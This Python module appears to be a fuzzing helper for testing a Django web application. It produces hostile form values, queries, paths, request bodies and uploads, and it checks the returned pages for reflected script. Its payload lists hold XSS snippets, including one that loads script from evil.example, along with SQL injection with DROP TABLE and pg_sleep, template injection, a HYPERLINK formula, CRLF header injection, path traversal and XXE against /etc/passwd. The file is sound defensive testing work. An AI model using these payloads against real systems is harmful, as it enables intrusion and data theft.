"""What an unfriendly, careless or broken sender puts into a form, an address, a query or a file."""

import re
from html.parser import HTMLParser
from urllib.parse import quote, quote_plus

from django.core.files.uploadedfile import SimpleUploadedFile

TAG = "xq7"
"""Stands in every snippet that would do something if it came back as it was sent."""
SNIPPETS = [
    f"<script>{TAG}()</script>",
    f'"><img src=x onerror={TAG}()>',
    f"'><svg/onload={TAG}()>",
    f"</textarea></title></main><script src=//evil.example/{TAG}.js></script>",
    f"javascript:{TAG}()",
    f"{{{{ 191919|add:7 }}}}{{% debug %}}{TAG}",
    "${191919*7} #{191919*7} {{191919*7}} <%= 191919*7 %>",
    "'; DROP TABLE referrals_referral; --",
    "' OR '1'='1",
    "%' AND pg_sleep(9)=0 --",
    '=HYPERLINK("http://evil.example","x")',
    "\r\nSet-Cookie: stolen=1\r\n\r\n<script>xq7()</script>",
    "../../../../etc/passwd",
    "<!--",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
]
NUMBERS = [
    "", " ", "0", "-1", "00", "1", "2", "99999", "2147483648", "9223372036854775808", "9" * 40,
    "9" * 5000, "1e5", "NaN", "inf", "-0", "1.5", "1_000", "0x10", "١٢", "²", "½", "Ⅷ", "1\0", "1 2",
    "None", "null", "true", "[]", "{}", "id",
]  # fmt: skip
DATES = [
    "0000-00-00", "2026-02-30", "99999-01-01", "31", "32", "0", "13", "Feb", "Febuary", "0000", "0001", "99999",
    "1", "-5", "24:00", "25:61", "noon", "midnight", "4pm", "13pm", "0am",
    "٤:٣٠", "12:30:99.999999", "2026-12-11T10:00+99:99",
]  # fmt: skip
LETTERS = [
    "a\0b", "\0", "\u202eelpoep\u202c", "אבג\u200f \u0627\u0644", "👩‍👩‍👧‍👦" * 40, "Z̷̢̛" * 60, "\ufeff", "\u2028\u2029",
    "\ud7ff\uffff", "\x1b[31m", "\x7f\x80\x9f", "\t\v\f", "\n" * 3000, "ﷺ" * 500, "İıſK", "A" * 201, "A" * 2001,
]  # fmt: skip
HUGE = ["A" * 70_000, "é" * 300_000]
RAW = [b"%ff%fe", b"%ED%A0%80", b"%C0%AF", b"%00", b"%", b"%zz", b"\xff\xfe", b"%u0041", b"+%26+", b"%F0%9F%92"]
NAMES = [
    "reference",
    "id",
    "pk",
    "status",
    "case",
    "version",
    "form_key",
    "next",
    "__proto__",
    "user",
    "0",
    "",
    "a" * 300,
]


def value(rng):
    """This will return one hostile text."""
    [kind] = rng.choices([SNIPPETS, NUMBERS, DATES, LETTERS, HUGE], [40, 20, 20, 20, 1])
    text = rng.choice(kind)
    if rng.random() < 0.05:
        text = "".join(chr(rng.choice([rng.randrange(32, 127), rng.randrange(160, 0x2FFF)])) for _ in range(40))
    return text


def file(rng):
    """This will return an upload whose name, type and content say different things."""
    content = rng.choice(
        [b"", b"\0" * 50, b"%PDF-", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"MZ\x90", b"<script>xq7()</script>"]
    )
    name = rng.choice(
        ["a.pdf", "a.docx", "a.eml", "a.exe", "../../a.png", "a\0.pdf", f"{'n' * 400}.pdf", "\u202efdp.exe", "x"]
    )
    return SimpleUploadedFile(name, content, content_type=rng.choice(["application/pdf", "text/html", "x", ""]))


WAYS = ["one", "some", "all", "missing", "repeated", "foreign", "files", "thousands"]
OFTEN = [15, 5, 5, 5, 5, 5, 5, 1]
"""How often each: thousands of fields take as long as forty other requests."""


def values(rng, known, key):
    """This will change the values of a form: one, some or all of them; missing, repeated, foreign or thousands of them.

    `key` is the name that stays as it is, most of the time.
    """
    changed = dict(known)
    names = [name for name in changed if name != key or rng.random() < 0.05]
    match rng.choices(WAYS, OFTEN)[0]:
        case "one" if names:
            changed[rng.choice(names)] = value(rng)
        case "some":
            for name in rng.sample(names, min(len(names), 4)):
                changed[name] = value(rng)
        case "all":
            changed |= {name: value(rng) for name in names if name != key}
        case "missing":
            for name in rng.sample(names, rng.randint(0, len(names))):
                del changed[name]
        case "repeated":
            for name in rng.sample(names, min(len(names), 6)):
                changed[name] = [value(rng) for _ in range(rng.choice([2, 3, 50]))]
        case "foreign":
            changed |= {rng.choice(NAMES): value(rng) for _ in range(5)}
        case "thousands":
            number = rng.choice([200, 3000, 4990, 6000])
            stem = rng.choice([name for name in names if "-" in name] or ["form-{}-name"])
            changed |= {re.sub(r"\d+|\{\}", str(row), stem, count=1) + f"-{row}": "1" for row in range(number)}
            changed |= {"form-TOTAL_FORMS": str(number), "form-INITIAL_FORMS": rng.choice(NUMBERS)}
        case "files":
            for name in rng.sample(names, min(len(names), 2)):
                changed[name] = file(rng)
            changed["file"] = file(rng)
    return changed


def body(rng, known):
    """This will return (bytes, content type) that no browser sends."""
    pairs = [(quote_plus(str(name)).encode(), quote_plus(str(each)).encode()) for name, each in known.items()]
    at = rng.randrange(len(pairs) + 1)
    pairs.insert(at, (rng.choice([b"text", b"reason", rng.choice(RAW)]), rng.choice(RAW)))
    sent = b"&".join(b"=".join(pair) for pair in pairs)
    boundary = "multipart/form-data; boundary=x"
    return rng.choice(
        [
            (sent, "application/x-www-form-urlencoded"),
            (sent, "application/x-www-form-urlencoded; charset=utf-16"),
            (sent, "application/x-www-form-urlencoded; charset=no-such-thing"),
            (sent, "text/plain"),
            (sent, ""),
            (b'{"form_key": 1, "a": [', "application/json"),
            (sent, "multipart/form-data"),
            (sent, boundary),
            (b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + rng.choice(RAW), boundary),
            (b"--x\r\nContent-Disposition: form-data; name=\xff\r\n\r\nb\r\n--x--\r\n", boundary),
            (b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-\r\n--x--', boundary),
            (
                b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!\r\n',
                boundary,
            ),
            (b"&" * 6000, "application/x-www-form-urlencoded"),
            (b"a=" + b"b" * 6_000_000, "application/x-www-form-urlencoded"),
            (bytes(rng.randrange(256) for _ in range(200)), "application/x-www-form-urlencoded"),
        ]
    )


def segment(rng):
    """This will return a hostile part of a path, quoted as it travels."""
    if rng.random() < 0.2:
        return rng.choice(RAW).decode("latin-1").replace("\xff", "%ff").replace("\xfe", "%fe")
    return quote(value(rng)[:1500], safe="") or "%20"


def query(rng, known):
    """This will return a query with hostile values: for what a page's own links and forms ask, and for more."""
    names = [*known, "page", "sort", "order", "q", "next", *rng.sample(NAMES, 2)]
    pairs = [
        (quote_plus(name), rng.choice([quote_plus(value(rng)[:1500]), "%ff", "%00", "-1", "9" * 30])) for name in names
    ]
    chosen = rng.sample(pairs, rng.randint(1, min(5, len(pairs))))
    return "&".join(f"{name}={each}" for name, each in chosen)


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class Strict(HTMLParser):
    """A page as its tags say: every element is closed where it was opened, and nothing that was sent became one."""

    def __init__(self):
        super().__init__()
        self.open, self.wrong = [], []

    def handle_starttag(self, tag, attributes):
        for name, text in attributes:
            if name.startswith("on") or (TAG in (text or "") and name in ("src", "style")) or TAG in name:
                self.wrong.append(f"<{tag} {name}={text!r}>")
            if name in ("href", "action", "formaction") and (text or "").strip().lower().startswith("javascript:"):
                self.wrong.append(f"<{tag} {name}={text!r}>")
        if tag not in VOID:
            self.open.append((tag, self.getpos()[0]))

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        opened, line = self.open.pop() if self.open else ("nothing", 0)
        if opened != tag:
            self.wrong.append(f"</{tag}> in line {self.getpos()[0]} closes <{opened}> of line {line}")

    def handle_data(self, data):
        if self.open and self.open[-1][0] == "script" and TAG in data:
            self.wrong.append(f"script: {data[:80]}")


SOUND = set()
"""Shapes of pages in which nothing was wrong: whatever follows a "<", in order, without the values of attributes."""


def wrong_with(text):
    """This will say what is wrong with a page: not well-formed, or something that was sent came back alive.

    A page in which nothing that was sent stands, and whose tags were found well-formed before, is not read again.
    """
    quiet = TAG not in text and "1343433" not in text and "javascript:" not in text.lower()
    shape = hash("".join(re.findall(r"<[^<>]*", re.sub(r'="[^"<>]*"', "=", text)))) if quiet else None
    if shape in SOUND:
        return []
    page = Strict()
    page.feed(text)
    page.close()
    found = page.wrong[:3] + ([f"never closed: {page.open[-1]}"] if page.open and not page.wrong else [])
    if re.search(rf"<(script|img|svg)[^>]*{TAG}", text, re.IGNORECASE):
        found.append("a snippet came back as it was sent")
    if "1343433" in text:
        found.append("a snippet was worked out")
    if quiet and not found:
        SOUND.add(shape)
    return found
